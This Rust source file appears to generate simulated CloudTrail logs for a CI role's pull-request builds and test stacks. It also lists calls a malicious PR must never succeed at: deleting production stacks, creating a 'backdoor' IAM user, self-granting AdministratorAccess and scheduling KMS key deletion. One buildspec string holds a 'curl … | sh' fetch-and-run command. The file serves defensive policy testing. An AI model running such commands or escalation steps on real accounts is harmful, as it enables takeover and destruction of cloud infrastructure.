//! `ci-role`: every pull request gets a CodeBuild run and a test stack `test-pr-N`. Without a
//! service role, CloudFormation creates the stack's resources with the caller's credentials:
//! those records name ci-role with `invokedBy` cloudformation.amazonaws.com, and IAM sees
//! aws:CalledVia (https://docs.aws.amazon.com/IAM/latest/UserGuide/access_forward_access_sessions.html).
//! Stacks of pull requests two days old are deleted.

use std::collections::BTreeMap;

use super::{ACCT, Call, Check, Day, Never, Role, SYD, USE1, call, ck};
use crate::json::obj;
use crate::time;

const CFN: &str = "cloudformation.amazonaws.com";
const SQS: &str = "sqs.amazonaws.com";
const DDB: &str = "dynamodb.amazonaws.com";
const LAMBDA: &str = "lambda.amazonaws.com";
const CB: &str = "codebuild.amazonaws.com";
pub const PROJECT: &str = "webapp-ci";
pub const LAMBDA_ROLE: &str = "ci-test-lambda";
/// The pull request whose workflow run makes the never-needed calls (a malicious PR).
pub const ATTACK_PR: u32 = 200;

#[derive(Default)]
pub struct State {
    /// Live stacks: PR number → stack id.
    stacks: BTreeMap<u32, String>,
}

fn stack_arn(name: &str, id: &str, region: &str) -> String {
    format!("arn:aws:cloudformation:{region}:{ACCT}:stack/{name}/{id}")
}

fn template(pr: u32) -> String {
    format!("https://acme-ci-templates.s3.{SYD}.amazonaws.com/pr-{pr}/template.yaml")
}

fn queue_arn(q: &str) -> String {
    format!("arn:aws:sqs:{SYD}:{ACCT}:{q}")
}

fn table_arn(t: &str) -> String {
    format!("arn:aws:dynamodb:{SYD}:{ACCT}:table/{t}")
}

fn fn_arn(f: &str) -> String {
    format!("arn:aws:lambda:{SYD}:{ACCT}:function:{f}")
}

fn role_arn(r: &str) -> String {
    format!("arn:aws:iam::{ACCT}:role/{r}")
}

fn via(c: Call) -> Call {
    c.via(CFN)
}

fn build(d: &mut Day, r: &Role, pr: u32) {
    let id = format!("{PROJECT}:{}", d.rng.guid());
    let project = format!("arn:aws:codebuild:{SYD}:{ACCT}:project/{PROJECT}");
    let started = time::java_date(d.t);
    let number = 900 + 3 * i64::from(pr);
    d.emit(
        r,
        call(CB, "StartBuild", SYD)
            .req(obj(|j| {
                j.s("projectName", PROJECT).s("sourceVersion", &format!("pr/{pr}"));
            }))
            .resp(obj(|j| {
                j.o("build", |j| {
                    j.s("id", &id)
                        .s("arn", &format!("arn:aws:codebuild:{SYD}:{ACCT}:build/{id}"))
                        .n("buildNumber", number)
                        .s("startTime", &started)
                        .s("currentPhase", "QUEUED")
                        .s("buildStatus", "IN_PROGRESS")
                        .s("sourceVersion", &format!("pr/{pr}"))
                        .s("projectName", PROJECT)
                        .n("timeoutInMinutes", 60)
                        .b("buildComplete", false)
                        .s("initiator", &format!("ci-role/gha-{pr}"));
                });
            })),
        &format!("start the build of PR {pr}"),
        vec![ck("codebuild:StartBuild", &project, SYD)],
    );
    for _ in 0..d.rng.range(2, 4) {
        d.tick(30, 90);
        d.emit(
            r,
            call(CB, "BatchGetBuilds", SYD)
                .req(obj(|j| {
                    j.a("ids", |j| {
                        j.is(&id);
                    });
                }))
                .ro(),
            "poll the build",
            vec![ck("codebuild:BatchGetBuilds", &project, SYD)],
        );
    }
}

fn create_stack(d: &mut Day, r: &Role, st: &mut State, pr: u32) {
    let name = format!("test-pr-{pr}");
    let sid = d.rng.guid();
    let arn = stack_arn(&name, &sid, SYD);
    let prs = pr.to_string();
    d.emit(
        r,
        call(CFN, "CreateStack", SYD)
            .req(obj(|j| {
                j.s("stackName", &name)
                    .s("templateURL", &template(pr))
                    .a("parameters", |j| {
                        j.io(|j| {
                            j.s("parameterKey", "Pr").s("parameterValue", &prs);
                        });
                    })
                    .a("tags", |j| {
                        j.io(|j| {
                            j.s("key", "pr").s("value", &prs);
                        });
                    });
            }))
            .resp(obj(|j| {
                j.s("stackId", &arn);
            })),
        &format!("create stack {name}"),
        vec![
            ck("cloudformation:CreateStack", &arn, SYD)
                .c("cloudformation:TemplateUrl", &template(pr))
                .req_tags(&[("pr", &prs)]),
        ],
    );
    // What CloudFormation then does with ci-role's credentials.
    d.tick(5, 15);
    let q = format!("{name}-queue");
    let url = format!("https://sqs.{SYD}.amazonaws.com/{ACCT}/{q}");
    d.emit(
        r,
        via(call(SQS, "CreateQueue", SYD))
            .req(obj(|j| {
                j.s("queueName", &q).o("attributes", |j| {
                    j.s("VisibilityTimeout", "60");
                });
            }))
            .resp(obj(|j| {
                j.s("queueUrl", &url);
            })),
        &format!("create queue {q} (through CloudFormation)"),
        vec![ck("sqs:CreateQueue", &queue_arn(&q), SYD).via_cfn()],
    );
    let t = format!("{name}-table");
    let created = d.t;
    let table_id = d.rng.guid();
    d.emit(
        r,
        via(call(DDB, "CreateTable", SYD))
            .req(obj(|j| {
                j.s("tableName", &t)
                    .a("attributeDefinitions", |j| {
                        j.io(|j| {
                            j.s("attributeName", "pk").s("attributeType", "S");
                        });
                    })
                    .a("keySchema", |j| {
                        j.io(|j| {
                            j.s("attributeName", "pk").s("keyType", "HASH");
                        });
                    })
                    .s("billingMode", "PAY_PER_REQUEST");
            }))
            .resp(obj(|j| {
                j.o("tableDescription", |j| {
                    j.s("tableName", &t)
                        .s("tableStatus", "CREATING")
                        .s("creationDateTime", &time::java_date(created))
                        .n("tableSizeBytes", 0)
                        .n("itemCount", 0)
                        .s("tableArn", &table_arn(&t))
                        .s("tableId", &table_id)
                        .o("billingModeSummary", |j| {
                            j.s("billingMode", "PAY_PER_REQUEST");
                        })
                        .b("deletionProtectionEnabled", false);
                });
            })),
        &format!("create table {t} (through CloudFormation)"),
        vec![ck("dynamodb:CreateTable", &table_arn(&t), SYD).via_cfn()],
    );
    let f = format!("{name}-fn");
    let rev = d.rng.guid();
    d.emit(
        r,
        via(call(LAMBDA, "CreateFunction20150331", SYD))
            .api("2015-03-31")
            .req(obj(|j| {
                j.s("functionName", &f)
                    .s("runtime", "python3.12")
                    .s("role", &role_arn(LAMBDA_ROLE))
                    .s("handler", "index.handler")
                    .o("code", |_| {})
                    .n("timeout", 30)
                    .b("publish", false);
            }))
            .resp(obj(|j| {
                j.s("functionName", &f)
                    .s("functionArn", &fn_arn(&f))
                    .s("runtime", "python3.12")
                    .s("role", &role_arn(LAMBDA_ROLE))
                    .s("handler", "index.handler")
                    .s("version", "$LATEST")
                    .s("revisionId", &rev)
                    .s("state", "Pending");
            })),
        &format!("create function {f} with role {LAMBDA_ROLE} (through CloudFormation)"),
        vec![
            ck("lambda:CreateFunction", &fn_arn(&f), SYD).via_cfn(),
            ck("iam:PassRole", &role_arn(LAMBDA_ROLE), SYD).c("iam:PassedToService", "lambda.amazonaws.com").via_cfn(),
        ],
    );
    for _ in 0..d.rng.range(1, 2) {
        d.tick(5, 15);
        d.emit(
            r,
            via(call(DDB, "DescribeTable", SYD))
                .req(obj(|j| {
                    j.s("tableName", &t);
                }))
                .ro(),
            "wait for the table (through CloudFormation)",
            vec![ck("dynamodb:DescribeTable", &table_arn(&t), SYD).via_cfn()],
        );
    }
    for _ in 0..d.rng.range(2, 3) {
        d.tick(15, 40);
        d.emit(
            r,
            call(CFN, "DescribeStacks", SYD)
                .req(obj(|j| {
                    j.s("stackName", &name);
                }))
                .ro(),
            "wait for the stack",
            vec![ck("cloudformation:DescribeStacks", &arn, SYD)],
        );
    }
    st.stacks.insert(pr, sid);
}

fn update_stack(d: &mut Day, r: &Role, st: &State, pr: u32) {
    let Some(sid) = st.stacks.get(&pr) else { return };
    let name = format!("test-pr-{pr}");
    let arn = stack_arn(&name, sid, SYD);
    let cs = format!("pr-{pr}-{}", d.rng.hex(7));
    let cs_arn = format!("arn:aws:cloudformation:{SYD}:{ACCT}:changeSet/{cs}/{}", d.rng.guid());
    d.emit(
        r,
        call(CFN, "CreateChangeSet", SYD)
            .req(obj(|j| {
                j.s("stackName", &name)
                    .s("templateURL", &template(pr))
                    .s("changeSetName", &cs)
                    .s("changeSetType", "UPDATE");
            }))
            .resp(obj(|j| {
                j.s("id", &cs_arn).s("stackId", &arn);
            })),
        &format!("change set for {name}"),
        vec![
            ck("cloudformation:CreateChangeSet", &arn, SYD)
                .c("cloudformation:ChangeSetName", &cs)
                .c("cloudformation:TemplateUrl", &template(pr)),
        ],
    );
    for _ in 0..d.rng.range(1, 2) {
        d.tick(5, 10);
        d.emit(
            r,
            call(CFN, "DescribeChangeSet", SYD)
                .req(obj(|j| {
                    j.s("changeSetName", &cs_arn);
                }))
                .ro(),
            "wait for the change set",
            vec![ck("cloudformation:DescribeChangeSet", &arn, SYD).c("cloudformation:ChangeSetName", &cs)],
        );
    }
    d.emit(
        r,
        call(CFN, "ExecuteChangeSet", SYD).req(obj(|j| {
            j.s("changeSetName", &cs_arn);
        })),
        "execute the change set",
        vec![ck("cloudformation:ExecuteChangeSet", &arn, SYD).c("cloudformation:ChangeSetName", &cs)],
    );
    let q = format!("{name}-queue");
    d.emit(
        r,
        via(call(SQS, "SetQueueAttributes", SYD)).req(obj(|j| {
            j.s("queueUrl", &format!("https://sqs.{SYD}.amazonaws.com/{ACCT}/{q}")).o("attributes", |j| {
                j.s("VisibilityTimeout", "120");
            });
        })),
        &format!("update queue {q} (through CloudFormation)"),
        vec![ck("sqs:SetQueueAttributes", &queue_arn(&q), SYD).via_cfn()],
    );
}

fn delete_stack(d: &mut Day, r: &Role, st: &mut State, pr: u32) {
    let Some(sid) = st.stacks.remove(&pr) else { return };
    let name = format!("test-pr-{pr}");
    let arn = stack_arn(&name, &sid, SYD);
    let prs = pr.to_string();
    d.emit(
        r,
        call(CFN, "DeleteStack", SYD).req(obj(|j| {
            j.s("stackName", &name);
        })),
        &format!("delete stack {name}"),
        vec![ck("cloudformation:DeleteStack", &arn, SYD).res_tags(&[("pr", &prs)], false)],
    );
    d.tick(5, 15);
    let f = format!("{name}-fn");
    d.emit(
        r,
        via(call(LAMBDA, "DeleteFunction20150331", SYD)).api("2015-03-31").req(obj(|j| {
            j.s("functionName", &f);
        })),
        "delete the function (through CloudFormation)",
        vec![ck("lambda:DeleteFunction", &fn_arn(&f), SYD).via_cfn()],
    );
    let t = format!("{name}-table");
    d.emit(
        r,
        via(call(DDB, "DeleteTable", SYD))
            .req(obj(|j| {
                j.s("tableName", &t);
            }))
            .resp(obj(|j| {
                j.o("tableDescription", |j| {
                    j.s("tableName", &t).s("tableStatus", "DELETING").s("tableArn", &table_arn(&t));
                });
            })),
        "delete the table (through CloudFormation)",
        vec![ck("dynamodb:DeleteTable", &table_arn(&t), SYD).via_cfn()],
    );
    let q = format!("{name}-queue");
    d.emit(
        r,
        via(call(SQS, "DeleteQueue", SYD)).req(obj(|j| {
            j.s("queueUrl", &format!("https://sqs.{SYD}.amazonaws.com/{ACCT}/{q}"));
        })),
        "delete the queue (through CloudFormation)",
        vec![ck("sqs:DeleteQueue", &queue_arn(&q), SYD).via_cfn()],
    );
}

/// The session of the workflow run for pull request `pr` (one access key drawn from the
/// day's stream).
pub fn caller(d: &mut Day, pr: u32) -> Role {
    Role {
        name: "ci-role",
        id: "AROACI5ROLE2GHA7Q4WXZ",
        session: format!("gha-{}", 8_100_000_000u64 + u64::from(pr) * 37),
        key: format!("ASIA{}", d.rng.key_chars(16)),
        ip: "4.197.93.18",
        ua: "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-azure exe/x86_64.ubuntu.22 prompt/off",
        created: d.midnight + 9 * 3600,
    }
}

pub fn day(d: &mut Day, st: &mut State) {
    let first = 100 + 2 * d.n;
    for (k, pr) in [first, first + 1].into_iter().enumerate() {
        d.at(10 + 3 * k as u32, 0, 1800);
        let r = caller(d, pr);
        build(d, &r, pr);
        create_stack(d, &r, st, pr);
    }
    // A second push to the morning's PR.
    d.at(16, 0, 1800);
    let r = caller(d, first);
    build(d, &r, first);
    // Noise: the workflow's "create" step runs again and fails; then the update path.
    let c = call(CFN, "CreateStack", SYD)
        .req(obj(|j| {
            j.s("stackName", &format!("test-pr-{first}")).s("templateURL", &template(first));
        }))
        .err("AlreadyExistsException", format!("Stack [test-pr-{first}] already exists"));
    d.emit(&r, c, "", vec![]);
    update_stack(d, &r, st, first);
    if d.n % 3 == 1 {
        // Noise: someone pointed the workflow at the production project.
        let c = call(CB, "StartBuild", SYD)
            .req(obj(|j| {
                j.s("projectName", "prod-deploy");
            }))
            .err(
                "AccessDeniedException",
                format!(
                    "User: arn:aws:sts::{ACCT}:assumed-role/ci-role/{} is not authorized to perform: codebuild:StartBuild on resource: arn:aws:codebuild:{SYD}:{ACCT}:project/prod-deploy because no identity-based policy allows the codebuild:StartBuild action",
                    r.session
                ),
            );
        d.emit(&r, c, "", vec![]);
    }
    // Clean up the stacks of PRs two days old.
    d.at(20, 0, 1800);
    let old: Vec<u32> = st.stacks.keys().copied().filter(|p| *p + 4 <= first).collect();
    for pr in old {
        let r = caller(d, pr);
        delete_stack(d, &r, st, pr);
    }
}

/// What ci-role must never be able to do.
pub fn never() -> Never {
    let one = |c: Check| vec![c];
    let prod = stack_arn("prod-core", "0a6e4d10-5b2c-11ee-9b7a-06a1c2b3d4e5", SYD);
    let prod_tags = [("env", "prod")];
    let new_stack = |name: &str, region: &str| {
        ck("cloudformation:CreateStack", &stack_arn(name, "7f3c9a40-dd52-11ee-8c11-0a1b2c3d4e5f", region), region)
            .c("cloudformation:TemplateUrl", &template(200))
            .req_tags(&[("pr", "200")])
    };
    vec![
        ("delete prod-core".into(), one(ck("cloudformation:DeleteStack", &prod, SYD).res_tags(&prod_tags, false))),
        (
            "update prod-core".into(),
            one(ck("cloudformation:UpdateStack", &prod, SYD)
                .res_tags(&prod_tags, false)
                .c("cloudformation:TemplateUrl", &template(200))),
        ),
        (
            "execute a change set on prod-core".into(),
            one(ck("cloudformation:ExecuteChangeSet", &prod, SYD)
                .res_tags(&prod_tags, false)
                .c("cloudformation:ChangeSetName", "pr-200-abcdef0")),
        ),
        (
            "set prod-core's stack policy".into(),
            one(ck("cloudformation:SetStackPolicy", &prod, SYD).res_tags(&prod_tags, false)),
        ),
        ("create a stack not named test-pr-*".into(), one(new_stack("prod-hack", SYD))),
        ("create a PR stack in us-east-1".into(), one(new_stack("test-pr-200", USE1))),
        (
            "create a PR stack with the Admin service role".into(),
            vec![
                new_stack("test-pr-200", SYD).c("cloudformation:RoleArn", &role_arn("Admin")),
                ck("iam:PassRole", &role_arn("Admin"), SYD).c("iam:PassedToService", "cloudformation.amazonaws.com"),
            ],
        ),
        (
            "create a PR queue directly, not through CloudFormation".into(),
            one(ck("sqs:CreateQueue", &queue_arn("test-pr-200-queue"), SYD)),
        ),
        (
            "delete the etl-jobs queue (through CloudFormation)".into(),
            one(ck("sqs:DeleteQueue", &queue_arn("etl-jobs"), SYD).via_cfn()),
        ),
        (
            "delete the etl-state table (through CloudFormation)".into(),
            one(ck("dynamodb:DeleteTable", &table_arn("etl-state"), SYD).via_cfn()),
        ),
        (
            "create a prod table (through CloudFormation)".into(),
            one(ck("dynamodb:CreateTable", &table_arn("prod-orders"), SYD).via_cfn()),
        ),
        (
            "create a PR function with the Admin role (through CloudFormation)".into(),
            vec![
                ck("lambda:CreateFunction", &fn_arn("test-pr-200-fn"), SYD).via_cfn(),
                ck("iam:PassRole", &role_arn("Admin"), SYD).c("iam:PassedToService", "lambda.amazonaws.com").via_cfn(),
            ],
        ),
        (
            "pass the test role to EC2".into(),
            one(ck("iam:PassRole", &role_arn(LAMBDA_ROLE), SYD).c("iam:PassedToService", "ec2.amazonaws.com")),
        ),
        (
            "delete etl-transform (through CloudFormation)".into(),
            one(ck("lambda:DeleteFunction", &fn_arn("etl-transform"), SYD).via_cfn()),
        ),
        (
            "start the production deploy project".into(),
            one(ck("codebuild:StartBuild", &format!("arn:aws:codebuild:{SYD}:{ACCT}:project/prod-deploy"), SYD)),
        ),
        (
            "change the CI project".into(),
            one(ck("codebuild:UpdateProject", &format!("arn:aws:codebuild:{SYD}:{ACCT}:project/{PROJECT}"), SYD)),
        ),
        (
            "delete the CI project".into(),
            one(ck("codebuild:DeleteProject", &format!("arn:aws:codebuild:{SYD}:{ACCT}:project/{PROJECT}"), SYD)),
        ),
        ("create an IAM user".into(), one(ck("iam:CreateUser", &format!("arn:aws:iam::{ACCT}:user/backdoor"), USE1))),
        (
            "attach AdministratorAccess to itself".into(),
            one(ck("iam:AttachRolePolicy", &role_arn("ci-role"), USE1)
                .c("iam:PolicyARN", "arn:aws:iam::aws:policy/AdministratorAccess")),
        ),
        (
            "overwrite a build artefact".into(),
            one(ck("s3:PutObject", "arn:aws:s3:::acme-artifacts/builds/2.3.48/app-2.3.48.tar.gz", SYD)),
        ),
        (
            "schedule deletion of the data key".into(),
            one(ck(
                "kms:ScheduleKeyDeletion",
                &format!("arn:aws:kms:{SYD}:{ACCT}:key/{}", super::pipeline::KEY_ID),
                SYD,
            )),
        ),
        ("launch an instance".into(), super::build::run_checks(SYD, "t2.micro", &[("app", "ci")], "web-app-profile")),
    ]
}

/// The never list as the events of successful calls by the workflow run of pull request
/// [`ATTACK_PR`], in its order (see `attacks.rs`).
pub fn attacks(d: &mut Day) -> super::attacks::List {
    use super::attacks as a;
    let pr = ATTACK_PR.to_string();
    let prod_id = "0a6e4d10-5b2c-11ee-9b7a-06a1c2b3d4e5";
    let stack = |name: &'static str, f: &dyn Fn(&mut crate::json::Json)| {
        call(CFN, name, SYD).req(obj(|j| {
            j.s("stackName", "prod-core");
            f(j);
        }))
    };
    let create = |name: &str, region: &'static str, role: Option<&str>| {
        let arn = stack_arn(name, "7f3c9a40-dd52-11ee-8c11-0a1b2c3d4e5f", region);
        call(CFN, "CreateStack", region)
            .req(obj(|j| {
                j.s("stackName", name).s("templateURL", &template(ATTACK_PR)).a("parameters", |j| {
                    j.io(|j| {
                        j.s("parameterKey", "Pr").s("parameterValue", &pr);
                    });
                });
                if let Some(r) = role {
                    j.s("roleARN", &role_arn(r));
                }
                j.a("tags", |j| {
                    j.io(|j| {
                        j.s("key", "pr").s("value", &pr);
                    });
                });
            }))
            .resp(obj(|j| {
                j.s("stackId", &arn);
            }))
    };
    let project = |name: &'static str, p: &str| {
        call(CB, name, SYD).req(obj(|j| {
            j.s("name", p);
            if name == "UpdateProject" {
                j.o("source", |j| {
                    j.s("type", "GITHUB")
                        .s("location", "https://github.com/acme/webapp.git")
                        .s("buildspec", "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://198.51.100.66/x | sh\n");
                });
            }
        }))
    };
    let mut out: super::attacks::List = Vec::new();
    let mut add = |what: &str, c: Call| out.push((what.to_string(), c));
    add("delete prod-core", stack("DeleteStack", &|_| {}));
    add(
        "update prod-core",
        stack("UpdateStack", &|j| {
            j.s("templateURL", &template(ATTACK_PR));
        })
        .resp(obj(|j| {
            j.s("stackId", &stack_arn("prod-core", prod_id, SYD));
        })),
    );
    add(
        "execute a change set on prod-core",
        stack("ExecuteChangeSet", &|j| {
            j.s("changeSetName", "pr-200-abcdef0");
        }),
    );
    add(
        "set prod-core's stack policy",
        stack("SetStackPolicy", &|j| {
            j.s(
                "stackPolicyBody",
                r#"{"Statement":[{"Effect":"Allow","Action":"Update:*","Principal":"*","Resource":"*"}]}"#,
            );
        }),
    );
    add("create a stack not named test-pr-*", create("prod-hack", SYD, None));
    add("create a PR stack in us-east-1", create("test-pr-200", USE1, None));
    add("create a PR stack with the Admin service role", create("test-pr-200", SYD, Some("Admin")));
    let q = format!("test-pr-{ATTACK_PR}-queue");
    let url = format!("https://sqs.{SYD}.amazonaws.com/{ACCT}/{q}");
    add(
        "create a PR queue directly, not through CloudFormation",
        call(SQS, "CreateQueue", SYD)
            .req(obj(|j| {
                j.s("queueName", &q);
            }))
            .resp(obj(|j| {
                j.s("queueUrl", &url);
            })),
    );
    add(
        "delete the etl-jobs queue (through CloudFormation)",
        via(call(SQS, "DeleteQueue", SYD)).req(obj(|j| {
            j.s("queueUrl", &format!("https://sqs.{SYD}.amazonaws.com/{ACCT}/etl-jobs"));
        })),
    );
    add(
        "delete the etl-state table (through CloudFormation)",
        via(call(DDB, "DeleteTable", SYD))
            .req(obj(|j| {
                j.s("tableName", "etl-state");
            }))
            .resp(obj(|j| {
                j.o("tableDescription", |j| {
                    j.s("tableName", "etl-state").s("tableStatus", "DELETING").s("tableArn", &table_arn("etl-state"));
                });
            })),
    );
    add(
        "create a prod table (through CloudFormation)",
        via(call(DDB, "CreateTable", SYD))
            .req(obj(|j| {
                j.s("tableName", "prod-orders").s("billingMode", "PAY_PER_REQUEST");
            }))
            .resp(obj(|j| {
                j.o("tableDescription", |j| {
                    j.s("tableName", "prod-orders")
                        .s("tableStatus", "CREATING")
                        .s("tableArn", &table_arn("prod-orders"));
                });
            })),
    );
    add(
        "create a PR function with the Admin role (through CloudFormation)",
        via(a::create_function(d, &format!("test-pr-{ATTACK_PR}-fn"), "Admin", &[], "python3.12")),
    );
    add("pass the test role to EC2", a::associate_profile(d, "i-0b4571a0c9d3e2f18", LAMBDA_ROLE));
    add("delete etl-transform (through CloudFormation)", via(a::delete_function("etl-transform")));
    let id = format!("prod-deploy:{}", d.rng.guid());
    add(
        "start the production deploy project",
        call(CB, "StartBuild", SYD)
            .req(obj(|j| {
                j.s("projectName", "prod-deploy");
            }))
            .resp(obj(|j| {
                j.o("build", |j| {
                    j.s("id", &id)
                        .s("arn", &format!("arn:aws:codebuild:{SYD}:{ACCT}:build/{id}"))
                        .s("currentPhase", "QUEUED")
                        .s("buildStatus", "IN_PROGRESS")
                        .s("projectName", "prod-deploy");
                });
            })),
    );
    add("change the CI project", project("UpdateProject", PROJECT));
    add("delete the CI project", project("DeleteProject", PROJECT));
    add("create an IAM user", a::create_user(d, "backdoor"));
    add("attach AdministratorAccess to itself", a::attach_admin("ci-role"));
    add(
        "overwrite a build artefact",
        a::s3_object(d, "PutObject", "acme-artifacts", "builds/2.3.48/app-2.3.48.tar.gz", 43_517_220),
    );
    let key = format!("arn:aws:kms:{SYD}:{ACCT}:key/{}", super::pipeline::KEY_ID);
    add("schedule deletion of the data key", a::schedule_key_deletion(d, &key));
    add("launch an instance", a::launch(d, SYD, "t2.micro", &[("app", "ci")], "web-app-profile"));
    out
}
